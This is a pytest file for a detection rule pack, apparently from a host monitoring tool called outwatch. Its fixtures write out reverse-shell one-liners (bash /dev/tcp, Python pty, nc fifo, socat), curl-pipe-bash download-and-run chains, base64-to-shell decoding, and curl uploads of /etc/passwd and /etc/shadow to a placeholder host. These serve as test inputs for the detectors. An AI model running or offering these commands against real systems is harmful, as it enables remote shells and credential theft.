"""The default rule pack, rule by rule: each fires on a crafted event and stays quiet on its near miss;
ordinary system traffic stays below the alert threshold."""

from __future__ import annotations

import pytest
from conftest_rules import (  # noqa: F401 (fixtures)
    RESOLVER,
    ancestors,
    default_rules_fixture,
    fired,
    make_event,
    resolv_conf_fixture,
    scored,
)

from outwatch.rules import RuleSet, load_rules

WEB = ancestors(("php-fpm8.2", "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"]),
                ("nginx", "/usr/sbin/nginx", ["nginx: worker process"]), user=("33", "www-data"))
SHELL = {"process.name": "sh", "process.executable": "/usr/bin/dash", "process.args": ["sh"],
         "process.command_line": "sh"}


def _exe(path: str, **more: object) -> dict:
    name = path.rsplit("/", 1)[1]
    return {"process.executable": path, "process.name": name[:15], "process.args": [path],
            "process.command_line": path, **more}


def _proc(name: str, exe: str, *args: str, **more: object) -> dict:
    argv = [name, *args]
    return {"process.name": name, "process.executable": exe, "process.args": argv,
            "process.command_line": " ".join(argv), **more}


def _sh_c(command: str) -> list[dict]:
    return ancestors(("sh", "/usr/bin/dash", ["sh", "-c", command]), ("cron", "/usr/sbin/cron", ["/usr/sbin/cron"]))


# (rule id, changes that make it fire, [near misses that must not])
CASES: list[tuple[str, dict, list[dict]]] = [
    ("OW-EXE-TMP", _exe("/tmp/x"), [_exe("/tmpx/x"), _exe("/usr/local/bin/x")]),
    ("OW-EXE-SHM", _exe("/dev/shm/x"), [_exe("/dev/shmx/x"), _exe("/tmp/x")]),
    ("OW-EXE-HOME", _exe("/home/alice/bin/tool"), [_exe("/homes/alice/tool")]),
    ("OW-EXE-WEBROOT", _exe("/var/www/html/up/x"), [_exe("/var/wwwdata/x")]),
    ("OW-EXE-HIDDEN", _exe("/var/lib/.cache-x/x"),
     [_exe("/home/alice/.local/bin/aws"), _exe("/home/alice/.cargo/bin/rg"), _exe("/usr/lib/a.b/x")]),
    ("OW-EXE-DELETED", _exe("/srv/app/x", **{"outwatch.process.exe_deleted": True}),
     [_exe("/srv/app/x"), _exe("/usr/sbin/chronyd", **{"outwatch.process.exe_deleted": True})]),
    ("OW-EXE-DELETED-SYSTEM", _exe("/usr/sbin/chronyd", **{"outwatch.process.exe_deleted": True}),
     [_exe("/usr/sbin/chronyd"), _exe("/srv/app/x", **{"outwatch.process.exe_deleted": True})]),
    ("OW-EXE-MEMFD", {"outwatch.process.exe_memfd": True, "process.executable": "/memfd:x (deleted)"},
     [{"outwatch.process.exe_memfd": False}]),
    ("OW-EXE-NONROOT-OWNER", {"outwatch.process.exe_uid": 1000},
     [{"outwatch.process.exe_uid": 1000, "user.id": "1000", "user.name": "alice"},
      {"outwatch.process.exe_uid": None}]),
    ("OW-EXE-FRESH", _exe("/srv/app/x", **{"outwatch.process.exe_mtime": "2026-12-03T18:44:00Z"}),
     [_exe("/srv/app/x", **{"outwatch.process.exe_mtime": "2026-12-03T17:00:00Z"}),
      _exe("/usr/bin/x", **{"outwatch.process.exe_mtime": "2026-12-03T18:44:00Z"}),
      _exe("/srv/app/x", **{"outwatch.process.exe_mtime": "2026-12-03T18:50:00Z"})]),
    ("OW-EXE-FAST-CONNECT", _exe("/tmp/x", **{"outwatch.process.age_ms": 300}),
     [_exe("/tmp/x", **{"outwatch.process.age_ms": 5000}), _exe("/srv/x", **{"outwatch.process.age_ms": 300})]),
    ("OW-EXE-SCRIPT-ODD", _proc("python3", "/usr/bin/python3.11", "-u", "/tmp/x.py"),
     [_proc("python3", "/usr/bin/python3.11", "/srv/app/x.py"), _proc("curl", "/usr/bin/curl", "/tmp/out"),
      _proc("python3", "/usr/bin/python3.11", "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install",
            "--prefix", "/tmp/pip-build-env-x/overlay", "setuptools")]),
    ("OW-EXE-SCRIPT-ODD", _proc("sh", "/usr/bin/dash", "/dev/shm/x"), []),
    ("OW-MASQ-NAME", {"process.name": "kswapd-helper"},
     [{"process.name": "systemd-timesyn", "process.executable": "/usr/lib/systemd/systemd-timesyncd",
       "process.args": ["/lib/systemd/systemd-timesyncd"]},
      {"process.name": "unattended-upgr", "process.executable": "/usr/bin/python3.11",
       "process.args": ["/usr/bin/python3", "/usr/bin/unattended-upgrade"]}]),
    ("OW-MASQ-KTHREAD", _exe("/tmp/x", **{"process.name": "kworker/0:1"}),
     [{"process.name": "kworker/0:1", "process.executable": None}]),
    ("OW-MASQ-KTHREAD", _exe("/usr/bin/x", **{"process.args": ["[kthreadd]"], "process.command_line": "[kthreadd]"}),
     [_exe("/usr/bin/x", **{"process.args": ["x", "[1,2]"], "process.command_line": "x [1,2]"})]),
    ("OW-MASQ-DAEMON", _exe("/var/tmp/sshd"), [_exe("/usr/sbin/sshd")]),
    ("OW-PROC-SHELL", _proc("bash", "/usr/bin/bash"),
     [_proc("bash", "/usr/bin/bash", **{"destination.ip": "127.0.0.1"}), _proc("bashful", "/usr/bin/bashful")]),
    ("OW-PROC-SHELL", {"process.name": "x", "process.executable": "/usr/bin/dash"}, []),
    ("OW-PROC-INTERPRETER", _proc("python3", "/usr/bin/python3.11", "app.py"),
     [_proc("php-fpm8.2", "/usr/sbin/php-fpm8.2"), _proc("pythonic", "/usr/bin/pythonic")]),
    ("OW-PROC-NETTOOL", _proc("nc", "/usr/bin/nc.openbsd", "203.0.113.7", "80"),
     [_proc("nc", "/usr/bin/nc.openbsd", **{"destination.ip": "127.0.0.1"})]),
    ("OW-PROC-SCANNER", _proc("nmap", "/usr/bin/nmap", "-sS"), [_proc("nmapper", "/usr/bin/nmapper")]),
    ("OW-PROC-TUNNEL", _proc("chisel", "/usr/local/bin/chisel", "client"), [_proc("chiseled", "/usr/bin/chiseled")]),
    ("OW-PROC-EXFIL", _proc("rclone", "/usr/bin/rclone", "copy"), [_proc("rsync", "/usr/bin/rsync")]),
    ("OW-PROC-MINER", _proc("xmrig", "/opt/xmrig/xmrig"), [_proc("xmr", "/usr/bin/xmr")]),
    ("OW-LINEAGE-WEB", {**SHELL, "outwatch.process.ancestors": WEB},
     [SHELL, {"process.name": "gunicorn", "process.executable": "/usr/bin/python3.11",
              "outwatch.process.ancestors": ancestors(("gunicorn", "/usr/bin/python3.11", ["gunicorn"]))}]),
    ("OW-LINEAGE-DB", {**SHELL, "outwatch.process.ancestors": ancestors(
        ("postgres", "/usr/lib/postgresql/15/bin/postgres", ["postgres: main"]))},
     [SHELL]),
    ("OW-LINEAGE-APP", {"outwatch.process.ancestors": ancestors(("java", "/usr/bin/java", ["java", "-jar", "a.jar"]))},
     [{"process.name": "python3", "process.executable": "/usr/bin/python3.11",
       "outwatch.process.ancestors": ancestors(("java", "/usr/bin/java", ["java"]))}]),
    ("OW-USER-SERVICE", {"user.id": "33", "user.name": "www-data"},
     [{"user.id": "1000", "user.name": "alice"},
      {"user.id": "33", "user.name": "www-data", "process.name": "php-fpm8.2",
       "process.executable": "/usr/sbin/php-fpm8.2"}]),
    ("OW-PORT-REVSHELL", {"destination.port": 4444},
     [{"destination.port": 4443}, {"destination.port": 4444, "destination.ip": "127.0.0.1"}]),
    ("OW-PORT-IRC", {"destination.port": 6667}, [{"destination.port": 6670}]),
    ("OW-PORT-MINER", {"destination.port": 14444}, [{"destination.port": 14445}]),
    ("OW-PORT-TOR", {"destination.port": 9050, "destination.ip": "127.0.0.1"},
     [{"destination.port": 9050, "network.transport": "udp"}]),
    ("OW-UDP-ODD-PORT", {"network.transport": "udp", "destination.port": 40000},
     [{"network.transport": "udp", "destination.port": 123}, {"network.transport": "udp", "destination.port": 33500},
      {"network.transport": "udp", "destination.port": 40000, "destination.ip": "239.255.255.250"},
      {"network.transport": "tcp", "destination.port": 40000}]),
    ("OW-DNS-ODD-RESOLVER", {"network.transport": "udp", "destination.port": 53, "destination.ip": "8.8.8.8"},
     [{"network.transport": "udp", "destination.port": 53, "destination.ip": RESOLVER},
      {"network.transport": "udp", "destination.port": 53, "destination.ip": "127.0.0.53"},
      {"network.transport": "udp", "destination.port": 53, "destination.ip": "8.8.8.8",
       "process.executable": "/usr/lib/systemd/systemd-resolved", "process.name": "systemd-resolve"}]),
    ("OW-SSH-NONSTD-PORT", {**_proc("ssh", "/usr/bin/ssh", "-p", "2222", "host"), "destination.port": 2222},
     [{**_proc("ssh", "/usr/bin/ssh", "host"), "destination.port": 22}]),
    ("OW-CLOUD-METADATA", {"destination.ip": "169.254.169.254", "destination.port": 80},
     [{"destination.ip": "169.254.169.253", "destination.port": 80}]),
    ("OW-CLOUD-METADATA", {"destination.ip": "fd00:ec2::254", "network.type": "ipv6"}, []),
    ("OW-ARGS-REVSHELL", {**SHELL, "process.args": ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
                          "process.command_line": "sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
     [{**SHELL, "process.args": ["sh", "-c", "echo /dev/tcp"], "process.command_line": "sh -c echo /dev/tcp"}]),
    ("OW-ARGS-REVSHELL", _proc("python3", "/usr/bin/python3.11", "-c",
                               "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));"
                               "os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"),
     [_proc("python3", "/usr/bin/python3.11", "-c", "import socket; socket.socket().connect(('db', 5432))")]),
    ("OW-ARGS-REVSHELL", {"outwatch.process.ancestors": _sh_c("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | "
                                                              "nc 203.0.113.7 4444 > /tmp/f")}, []),
    ("OW-ARGS-REVSHELL", _proc("socat", "/usr/bin/socat", "tcp:203.0.113.7:4444", "exec:/bin/bash,pty"),
     [_proc("socat", "/usr/bin/socat", "tcp:203.0.113.7:4444", "-")]),
    ("OW-ARGS-DOWNLOAD-EXEC", {"outwatch.process.ancestors": _sh_c("curl -fsSL http://203.0.113.7/i.sh | bash")},
     [{"outwatch.process.ancestors": _sh_c("curl -fsSL http://203.0.113.7/i.sh -o /srv/i.sh")}]),
    ("OW-ARGS-DOWNLOAD-EXEC", {"outwatch.process.ancestors": _sh_c("cd /tmp; wget http://x/b; chmod +x b; ./b")}, []),
    ("OW-ARGS-DOWNLOAD-EXEC", {"outwatch.process.ancestors": _sh_c('bash -c "$(curl -fsSL http://x/install)"')}, []),
    ("OW-ARGS-DECODE-EXEC", {"outwatch.process.ancestors": _sh_c("echo aWQK | base64 -d | bash")},
     [{"outwatch.process.ancestors": _sh_c("base64 -d /srv/in.b64 > /srv/out")}]),
    ("OW-ARGS-MINER", _proc("kswapd0", "/tmp/.x/kswapd0", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"),
     [_proc("gcc", "/usr/bin/gcc", "-o", "out.o", "main.c")]),
    ("OW-ARGS-MINER", _proc("x", "/srv/x", "--donate-level", "1"), []),
    ("OW-ARGS-SSH-TUNNEL", _proc("ssh", "/usr/bin/ssh", "-fNR", "8080:localhost:80", "relay"),
     [_proc("ssh", "/usr/bin/ssh", "-L", "8080:localhost:80", "relay"), _proc("ssh", "/usr/bin/ssh", "-p2222", "h")]),
    ("OW-ARGS-UPLOAD", _proc("curl", "/usr/bin/curl", "-F", "f=@/etc/passwd", "https://203.0.113.7/u"),
     [_proc("curl", "/usr/bin/curl", "-F", "name=value", "https://203.0.113.7/u")]),
    ("OW-ARGS-UPLOAD", _proc("curl", "/usr/bin/curl", "-T", "/etc/shadow", "https://transfer.example/"), []),
    ("OW-ALLOW-APT", {**_exe("/usr/lib/apt/methods/http"), "destination.port": 80},
     [{**_exe("/tmp/http"), "destination.port": 80}, {**_exe("/usr/lib/apt/methods/http"), "destination.port": 4444}]),
    ("OW-ALLOW-UPDATE-SCRIPTS", {"process.name": "unattended-upgr", "process.executable": "/usr/bin/python3.11",
                                 "process.args": ["/usr/bin/python3", "/usr/bin/unattended-upgrade"]},
     [{"process.name": "unattended-upgr", "process.executable": "/tmp/python3",
       "process.args": ["/usr/bin/python3", "/usr/bin/unattended-upgrade"]}]),
    ("OW-ALLOW-POPCON", {"process.name": "popcon-upload", "process.executable": "/usr/bin/perl",
                         "process.args": ["/usr/bin/perl", "/usr/share/popularity-contest/popcon-upload"],
                         "destination.port": 80},
     [{"process.executable": "/usr/bin/perl", "process.args": ["perl", "-e", "1"], "destination.port": 80}]),
    ("OW-ALLOW-TIMESYNC", {**_exe("/usr/sbin/chronyd"), "network.transport": "udp", "destination.port": 123},
     [{**_exe("/usr/sbin/chronyd"), "network.transport": "udp", "destination.port": 1234},
      {**_exe("/srv/chronyd"), "network.transport": "udp", "destination.port": 123}]),
    ("OW-ALLOW-DNS", {"network.transport": "udp", "destination.port": 53, "destination.ip": RESOLVER},
     [{"network.transport": "udp", "destination.port": 53, "destination.ip": "8.8.8.8"}]),
    ("OW-ALLOW-SSH", {**_proc("ssh", "/usr/bin/ssh", "host"), "destination.port": 22},
     [{**_proc("ssh", "/usr/bin/ssh", "host"), "destination.port": 2222}]),
    ("OW-ALLOW-CLOUD-AGENT", {"process.name": "cloud-init", "process.executable": "/usr/bin/python3.11",
                              "process.args": ["/usr/bin/python3", "/usr/bin/cloud-init", "init"],
                              "destination.ip": "169.254.169.254", "destination.port": 80},
     [{"destination.ip": "169.254.169.254", "destination.port": 80}]),
]


def test_base_event_fires_nothing(default_rules: RuleSet) -> None:
    event = scored(default_rules)
    assert event["outwatch"] == {**event["outwatch"], "score": 0, "severity": "info", "reasons": []}
    assert event["event"]["kind"] == "event"
    assert "rule" not in event and "threat" not in event


def test_every_default_rule_has_a_case(default_rules: RuleSet) -> None:
    assert {r.id for r in default_rules.rules} == {case[0] for case in CASES}


@pytest.mark.parametrize(("rule_id", "fire", "misses"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_rule_fires_and_not_on_near_miss(default_rules: RuleSet, rule_id: str, fire: dict, misses: list[dict]) -> None:
    assert rule_id in fired(default_rules, fire)
    for miss in misses:
        assert rule_id not in fired(default_rules, miss), miss


def test_positive_rules_carry_attack_ids_and_text(default_rules: RuleSet) -> None:
    for rule in default_rules.rules:
        assert rule.name and rule.description, rule.id
        if rule.score > 0:
            assert rule.technique and rule.tactic, rule.id
        else:
            assert rule.id.startswith("OW-ALLOW-"), rule.id


ORDINARY: dict[str, dict] = {
    "apt update over http": {**_exe("/usr/lib/apt/methods/http"), "destination.port": 80,
                             "user.id": "42", "user.name": "_apt"},
    "apt over https": {**_exe("/usr/lib/apt/methods/https"), "destination.port": 443},
    "unattended-upgrades": {"process.name": "unattended-upgr", "process.executable": "/usr/bin/python3.11",
                            "process.args": ["/usr/bin/python3", "/usr/bin/unattended-upgrade"],
                            "outwatch.process.unit": "unattended-upgrades.service"},
    "systemd-timesyncd": {**_exe("/usr/lib/systemd/systemd-timesyncd"), "process.name": "systemd-timesyn",
                          "network.transport": "udp", "destination.port": 123,
                          "user.id": "997", "user.name": "systemd-timesync"},
    "chronyd left running after an upgrade": {**_exe("/usr/sbin/chronyd"), "network.transport": "udp",
                                              "destination.port": 123, "outwatch.process.exe_deleted": True},
    "systemd-resolved upstream": {**_exe("/usr/lib/systemd/systemd-resolved"), "process.name": "systemd-resolve",
                                  "network.transport": "udp", "destination.port": 53, "destination.ip": "9.9.9.9",
                                  "user.id": "991", "user.name": "systemd-resolve"},
    "a lookup through the resolver": {"network.transport": "udp", "destination.port": 53, "destination.ip": RESOLVER},
    "ssh to port 22": {**_proc("ssh", "/usr/bin/ssh", "admin@10.0.0.5"), "destination.port": 22,
                       "destination.ip": "10.0.0.5"},
    "git over https": {**_proc("git-remote-http", "/usr/lib/git-core/git-remote-https", "origin"),
                       "process.name": "git-remote-http"},
    "cloud-init reads the metadata": {"process.name": "cloud-init", "process.executable": "/usr/bin/python3.11",
                                      "process.args": ["/usr/bin/python3", "/usr/bin/cloud-init", "init"],
                                      "destination.ip": "169.254.169.254", "destination.port": 80},
    "a developer's build in ~/.cargo": {**_exe("/home/alice/.cargo/bin/cargo"), "user.id": "1000",
                                        "user.name": "alice", "outwatch.process.exe_uid": 1000},
    "pip install": {**_proc("pip3", "/usr/bin/python3.11", "install", "requests"), "process.name": "pip3"},
    "pip installs build dependencies": _proc("python3", "/usr/bin/python3.11",
                                             "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install",
                                             "--prefix", "/tmp/pip-build-env-x/overlay", "setuptools>=40.8.0"),
    "a project's virtualenv": {**_proc("python", "/home/alice/proj/.venv/bin/python", "manage.py", "sync"),
                               "user.id": "1000", "user.name": "alice", "outwatch.process.exe_uid": 1000},
    "a cloud SDK reads its credentials": {**_proc("python3", "/usr/bin/python3.11", "/srv/app/main.py"),
                                          "destination.ip": "169.254.169.254", "destination.port": 80},
    "tailscale": {**_exe("/usr/sbin/tailscaled"), "network.transport": "udp", "destination.port": 41641},
    "DHCP": {**_exe("/usr/lib/systemd/systemd-networkd"), "process.name": "systemd-network",
             "network.transport": "udp", "destination.port": 67, "destination.ip": "255.255.255.255"},
}


@pytest.mark.parametrize("changes", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_traffic_stays_below_the_alert_threshold(default_rules: RuleSet, changes: dict) -> None:
    event = scored(default_rules, changes)
    assert event["event"]["kind"] == "event", event["outwatch"]["reasons"]
    assert event["outwatch"]["severity"] in ("info", "low"), event["outwatch"]["reasons"]


def test_allowlist_suppresses_what_would_otherwise_count(default_rules: RuleSet) -> None:
    """chronyd still running after an upgrade (deleted executable) is brought back to nothing by the
    time-sync allowlist, and the reasons show both sides."""
    changes = ORDINARY["chronyd left running after an upgrade"]
    event = scored(default_rules, changes)
    reasons = {r["rule"]: r["score"] for r in event["outwatch"]["reasons"]}
    assert reasons == {"OW-EXE-DELETED-SYSTEM": 10, "OW-ALLOW-TIMESYNC": -30}
    assert event["outwatch"]["score"] == -20
    assert event["outwatch"]["severity"] == "info"
    assert event["rule"]["id"] == "OW-EXE-DELETED-SYSTEM"  # still named: the highest-scoring rule


def test_attacks_reach_the_alert_threshold(default_rules: RuleSet) -> None:
    webshell = {**SHELL, "process.args": ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
                "process.command_line": "sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "user.id": "33", "user.name": "www-data", "outwatch.process.ancestors": WEB,
                "destination.ip": "203.0.113.7", "destination.port": 4444}
    event = scored(default_rules, webshell)
    assert event["outwatch"]["severity"] == "critical"
    assert event["event"]["kind"] == "alert"
    assert event["rule"]["id"] == "OW-ARGS-REVSHELL"
    for alone in (_exe("/tmp/x"), _exe("/dev/shm/x"), {"outwatch.process.exe_memfd": True},
                  _proc("nc", "/usr/bin/nc.openbsd", "203.0.113.7", "4444")):
        assert scored(default_rules, alone)["event"]["kind"] == "alert", alone


def test_resolvers_come_from_the_given_resolv_conf(tmp_path) -> None:
    conf = tmp_path / "resolv.conf"
    conf.write_text("nameserver 8.8.8.8\n")
    ruleset = load_rules(system_dir=None, resolv_conf=conf)
    dns = {"network.transport": "udp", "destination.port": 53, "destination.ip": "8.8.8.8"}
    assert "OW-DNS-ODD-RESOLVER" not in fired(ruleset, dns)
    assert "OW-DNS-ODD-RESOLVER" in fired(ruleset, {**dns, "destination.ip": RESOLVER})


def _scoring(event: dict) -> tuple:
    return (event["outwatch"]["score"], event["outwatch"]["severity"], event["outwatch"]["reasons"],
            event.get("rule"), event.get("threat"), event["event"]["kind"])


ALL_CHANGES = [c for _, fire, misses in CASES for c in (fire, *misses)] + list(ORDINARY.values())


@pytest.mark.parametrize("changes", ALL_CHANGES)
def test_remembered_scoring_is_the_same_as_fresh_scoring(default_rules: RuleSet, changes: dict) -> None:
    """With the tracer's per-image object the rules that read nothing volatile are worked out once per
    image and destination: the first and the remembered results equal a scoring from scratch."""
    image = object()
    fresh = _scoring(scored(default_rules, changes))
    for _ in range(2):
        event = make_event(changes)
        default_rules.score(event, image)
        assert _scoring(event) == fresh


def test_remembered_scoring_follows_what_changes_between_connects(default_rules: RuleSet) -> None:
    """One image: the process age (volatile) is read every time; another destination or outcome is
    worked out again; a new image object is never served the old one's result."""
    image = object()

    def score(changes: dict, img: object = image) -> set[str]:
        event = make_event({**_exe("/tmp/x"), **changes})
        default_rules.score(event, img)
        return {r["rule"] for r in event["outwatch"]["reasons"]}

    assert "OW-EXE-FAST-CONNECT" in score({"outwatch.process.age_ms": 300})
    assert "OW-EXE-FAST-CONNECT" not in score({"outwatch.process.age_ms": 5000})
    assert "OW-PORT-REVSHELL" in score({"destination.port": 4444})
    assert "OW-PORT-REVSHELL" not in score({"destination.port": 443})
    assert "OW-EXE-TMP" in score({})
    assert "OW-EXE-TMP" not in score({**_exe("/usr/bin/x")}, object())
